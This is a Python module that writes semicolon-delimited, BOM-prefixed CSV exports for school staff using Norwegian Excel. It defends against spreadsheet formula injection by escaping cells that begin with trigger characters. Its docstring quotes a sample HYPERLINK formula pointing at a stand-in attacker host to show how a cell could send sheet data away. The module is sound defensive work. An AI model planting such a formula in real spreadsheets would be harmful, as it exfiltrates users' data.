"""Every CSV file the site writes: one format, and no cell a spreadsheet would run as a formula.

The files are opened by school staff in Excel with a Norwegian locale, which splits CSV on
semicolons and reads UTF-8 only after a byte-order mark; rows end in CRLF.

Cells hold text that organisers typed. Excel and LibreOffice run a cell that starts with =, +,
-, @ (and, after their trimming, a tab or carriage return) as a formula: a title like
`=HYPERLINK("http://evil.example/?x="&A1;"Klikk")` would become a link that sends the sheet's
data away. Such a cell gets a leading apostrophe, as the OWASP CSV Injection page advises; the
spreadsheet then shows the text as typed. Python numbers pass unchanged: they come from numeric
columns, not from anyone's typing, and cannot hold a formula, so a -2 stays a number to sum.
"""

from __future__ import annotations

import csv
import io
import itertools
from collections.abc import Iterable, Sequence
from decimal import Decimal

CSV_DELIMITER = ";"
CSV_ENCODING = "utf-8-sig"  # UTF-8 after a byte-order mark
CSV_LINE_END = "\r\n"
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_cell(value: object) -> object:
    """The value as a CSV cell that no spreadsheet runs: text starting a formula gets a "'"."""
    if value is None or isinstance(value, int | float | Decimal):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text


def csv_bytes(header: Sequence[object], rows: Iterable[Sequence[object]]) -> bytes:
    """A CSV file for Norwegian Excel, every cell (the header's too) through spreadsheet_cell."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=CSV_DELIMITER, lineterminator=CSV_LINE_END)
    for row in itertools.chain([header], rows):
        writer.writerow([spreadsheet_cell(value) for value in row])
    return out.getvalue().encode(CSV_ENCODING)
